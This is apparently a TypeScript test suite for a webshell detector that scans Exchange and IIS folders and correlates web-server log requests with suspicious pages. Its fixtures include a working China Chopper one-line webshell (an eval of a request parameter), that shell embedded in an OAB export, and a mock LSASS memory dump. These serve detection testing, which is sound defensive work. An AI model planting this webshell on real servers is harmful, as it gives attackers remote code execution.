import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, test } from 'node:test';
import { linkRequests, scanWebFiles, type WebFileInput, type WebRequest } from '../../src/detect/webshell/index.js';
import { parseCsv } from '../../src/detect/webshell/csv.js';
import { loadBaselines } from '../../src/detect/webshell/baseline.js';

const root = mkdtempSync(join(tmpdir(), 'exhunt-web-'));
after(() => rmSync(root, { recursive: true, force: true }));
const EX = 'C/Program Files/Microsoft/Exchange Server/V15';
const CORPUS = fileURLToPath(new URL('../../../shared/corpora/exchange-baselines/', import.meta.url));
const CHOPPER = '<script language="JScript" runat="server">function Page_Load(){eval(Request["k9"],"unsafe");}</script>';

function put(path: string, content: string | Buffer, extra: Partial<WebFileInput> = {}): WebFileInput {
  const absPath = join(root, path);
  mkdirSync(dirname(absPath), { recursive: true });
  writeFileSync(absPath, content);
  const buf = typeof content === 'string' ? Buffer.from(content) : content;
  return { path, absPath, size: buf.length, sha256: createHash('sha256').update(buf).digest('hex'), mtime: '2021-03-03T04:05:06Z', ...extra };
}

describe('scanWebFiles', () => {
  test('a China Chopper page in owa/auth: persistence, high or above, with the rule, the baseline and the folder explained', async () => {
    const f = put(`${EX}/FrontEnd/HttpProxy/owa/auth/errorEE.aspx`, CHOPPER);
    const { findings } = await scanWebFiles({ root, files: [f] });
    const [x] = findings;
    assert.ok(x);
    assert.equal(x.stage, 'persistence');
    assert.equal(x.level, 'critical');
    assert.equal(x.rule.id, 'EXH_WEBSHELL_ChinaChopper_JScript_Eval');
    assert.equal(x.rule.source, 'rules/yara/exchange_webshells.yar');
    assert.ok(x.attack.includes('T1505.003'));
    assert.match(x.evidence.excerpt, /YARA EXH_WEBSHELL_ChinaChopper_JScript_Eval/);
    assert.match(x.evidence.excerpt, /named like the stock file errorFE\.aspx/);
    assert.match(x.evidence.excerpt, /match at \d+: .*eval\(Request/);
    assert.equal(x.time, Date.parse('2021-03-03T04:05:06Z'));
  });

  test('an OAB virtual-directory export with a script carries CVE-2021-27065', async () => {
    const f = put('C/inetpub/wwwroot/aspnet_client/discover.aspx', `Name : OAB (Default Web Site)\r\nInternalUrl : https://mail.contoso.com/OAB\r\nExternalUrl : http://f/${CHOPPER}\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\nExtendedProtectionTokenChecking : None\r\n`);
    const { findings } = await scanWebFiles({ root, files: [f] });
    assert.deepEqual(findings[0]?.cves, ['CVE-2021-26855', 'CVE-2021-27065']);
    assert.match(findings[0]?.evidence.excerpt ?? '', /file name published for this folder/);
  });

  test('published names count only in their folder; published hashes count anywhere', async () => {
    const hashes = parseCsv(readFileSync(new URL('../../rules/iocs/webshell-hashes.csv', import.meta.url), 'utf8'));
    const published = hashes[0]?.sha256 as string;
    const inFolder = put('C/inetpub/wwwroot/aspnet_client/supp0rt.aspx', '<%@ Page Language="C#" %><html><body>hello</body></html>');
    const elsewhere = put('C/inetpub/wwwroot/intranet/supp0rt.aspx', '<%@ Page Language="C#" %><html><body>hello</body></html>');
    const byHash = put('C/inetpub/wwwroot/intranet/page.aspx', 'x', { sha256: published });
    const { findings } = await scanWebFiles({ root, files: [inFolder, elsewhere, byHash] });
    const by = new Map(findings.map((f) => [f.evidence.path, f]));
    assert.ok(by.get(inFolder.path)?.webFile.signals.some((s) => s.id === 'ioc:path'));
    assert.equal(by.get(elsewhere.path), undefined, 'an ordinary site page named like a shell is not reported');
    assert.equal(by.get(byHash.path)?.level, 'critical');
    assert.equal(by.get(byHash.path)?.rule.source, 'rules/iocs/webshell-hashes.csv');
  });

  test('a stock page whose hash differs from its build is reported as modified', async (t) => {
    if (!existsSync(CORPUS)) return t.skip('baseline corpus not present at ../shared/corpora/exchange-baselines');
    const b = loadBaselines([CORPUS]);
    const build = [...(b.byPath.get('frontend/httpproxy/owa/auth/redirsuiteserviceproxy.aspx')?.values() ?? [])][0]?.[0];
    assert.ok(build);
    const f = put(`${EX}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServiceProxy.aspx`, '<%@ Page Language="C#" %><% Response.Redirect("/owa/"); %>');
    const { findings } = await scanWebFiles({ root, files: [f], build, baselineDir: CORPUS });
    assert.ok(findings[0]?.webFile.signals.some((s) => s.id === 'baseline:modified'), findings[0]?.evidence.excerpt);
    assert.equal(findings[0]?.level, 'medium');
  });

  test('a user baseline folder: stock files are trusted; a newer, hidden neighbour is marked recent and hidden', async () => {
    const stock = put(`${EX}/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx`, '<%@ Page Language="C#" %><% Response.Redirect("/ecp/"); %>', { mtime: '2020-05-01T00:00:00Z' });
    const added = put(`${EX}/FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx`, '<%@ Page Language="C#" %><% Response.Write(1); %>', { mtime: '2021-03-04T00:00:00Z', hidden: true });
    const bdir = join(root, 'my-baseline');
    mkdirSync(bdir, { recursive: true });
    writeFileSync(join(bdir, 'baseline_15.1.2176.2.csv'), `${stock.sha256.toUpperCase()},15.1.2176.2,\\FrontEnd\\HttpProxy\\ecp\\auth\\TimeoutLogout.aspx\r\n`);
    const { findings } = await scanWebFiles({ root, files: [stock, added], build: '15.1.2176.2', baselineDir: [bdir] });
    assert.deepEqual(findings.map((f) => f.evidence.path), [added.path]);
    const ids = findings[0]?.webFile.signals.map((s) => s.id) ?? [];
    for (const id of ['baseline:not-stock', 'baseline:look-alike', 'where:auth-folder', 'time:recent', 'attr:hidden']) assert.ok(ids.includes(id), `${id} in ${ids.join(', ')}`);
  });

  test('staged archives and LSASS dumps get their stages', async () => {
    const zip = put('C/ProgramData/it.zip', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200)]));
    const dump = Buffer.alloc(8192);
    dump.write('MDMP', 0, 'latin1');
    dump.write('C:\\Windows\\System32\\lsass.exe', 512, 'utf16le');
    dump.write('lsasrv.dll', 1024, 'utf16le');
    const dmp = put('C/Windows/Temp/lsass.dmp', dump);
    const { findings } = await scanWebFiles({ root, files: [zip, dmp] });
    const by = new Map(findings.map((f) => [f.evidence.path, f]));
    assert.equal(by.get(zip.path)?.stage, 'data-access');
    assert.equal(by.get(dmp.path)?.stage, 'hands-on');
    assert.equal(by.get(dmp.path)?.level, 'critical');
  });

  test('bad input is reported per file and the scan goes on', async () => {
    const ok = put(`${EX}/FrontEnd/HttpProxy/ecp/auth/x\u0007\u001b.aspx`, CHOPPER);
    const fifo = join(root, 'C/inetpub/wwwroot/aspnet_client/pipe.aspx');
    spawnSync('mkfifo', [fifo]);
    const gone: WebFileInput = { path: 'C/inetpub/wwwroot/aspnet_client/gone.aspx', absPath: join(root, 'nope.aspx'), size: 10, sha256: '00'.repeat(32) };
    const res = await scanWebFiles({ root, files: [ok, { path: 'C/inetpub/wwwroot/aspnet_client/pipe.aspx', absPath: fifo, size: 0, sha256: '00'.repeat(32) }, gone] });
    assert.deepEqual(res.problems.map((p) => p.reason).sort(), ['not a regular file', 'unreadable: ENOENT']);
    assert.ok(res.findings.some((f) => f.evidence.path === ok.path && f.level === 'critical'));
  });

  test('user rule folders add rules; their score meta is honoured', async () => {
    const dir = join(root, 'user-rules');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'mine.yar'), 'rule USER_Marker { meta: score = 60 strings: $a = "exhunt-user-marker" condition: $a and extension == ".aspx" }');
    const f = put('C/inetpub/wwwroot/intranet/m.aspx', 'exhunt-user-marker');
    const res = await scanWebFiles({ root, files: [f], yaraDirs: [dir] });
    assert.equal(res.findings[0]?.rule.id, 'USER_Marker');
    assert.equal(res.findings[0]?.level, 'medium');
    assert.equal(res.findings[0]?.rule.source, join(dir, 'mine.yar'));
  });
});

describe('linkRequests', () => {
  const ev = (line: number) => ({ path: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', line, excerpt: `line ${line}` });
  test('requests that reached a shell are summarised; 200 from outside raises the score', async () => {
    const shell = put(`${EX}/FrontEnd/HttpProxy/owa/auth/Current/themes/x.aspx`, '<%@ Page Language="C#" %><% Response.Write(1); %>');
    const quiet = put('C/inetpub/wwwroot/aspnet_client/q.aspx', '<%@ Page Language="C#" %><% Response.Write(2); %>');
    const { findings } = await scanWebFiles({ root, files: [shell, quiet] });
    const before = new Map(findings.map((f) => [f.evidence.path, f.webFile.score]));
    const reqs: WebRequest[] = [
      { time: Date.parse('2021-03-03T10:00:00Z'), path: '/owa/auth/Current/themes/X.aspx', ip: '203.0.113.5', status: '200', method: 'POST', evidence: ev(10) },
      { time: Date.parse('2021-03-04T10:00:00Z'), path: '/owa/auth/current/themes/x.aspx', ip: '198.51.100.7', status: '200', method: 'POST', evidence: ev(20) },
      { time: Date.parse('2021-03-02T10:00:00Z'), path: '/owa/auth/Current/themes/x.aspx', ip: '10.0.0.4', status: '404', method: 'GET', evidence: ev(5) },
      { time: Date.parse('2021-03-05T10:00:00Z'), path: '/aspnet_client/q.aspx', ip: '192.168.1.9', status: '200', method: 'GET', evidence: ev(30) },
      { time: Date.parse('2021-03-05T10:00:00Z'), path: '/owa/auth/logon.aspx', ip: '203.0.113.5', status: '200', method: 'GET', evidence: ev(31) },
    ];
    linkRequests(findings, reqs);
    const s = findings.find((f) => f.evidence.path === shell.path);
    const q = findings.find((f) => f.evidence.path === quiet.path);
    assert.ok(s?.webFile.requests && q?.webFile.requests);
    assert.equal(s.webFile.requests.count, 3);
    assert.equal(s.webFile.requests.okFromOutside, 2);
    assert.deepEqual(s.webFile.requests.firstEvidence, ev(5));
    assert.deepEqual(s.webFile.requests.lastEvidence, ev(20));
    assert.deepEqual(s.webFile.requests.statuses, { '200': 2, '404': 1 });
    assert.deepEqual([...s.entities.ips].sort(), ['10.0.0.4', '198.51.100.7', '203.0.113.5']);
    assert.equal(s.webFile.score, Math.min(100, (before.get(shell.path) ?? 0) + 20));
    assert.match(s.evidence.excerpt, /answered 200 to outside addresses/);
    assert.equal(s.time, Date.parse('2021-03-02T10:00:00Z'));
    assert.equal(q.webFile.score, (before.get(quiet.path) ?? 0) + 5, 'internal-only use counts for little');
  });
});
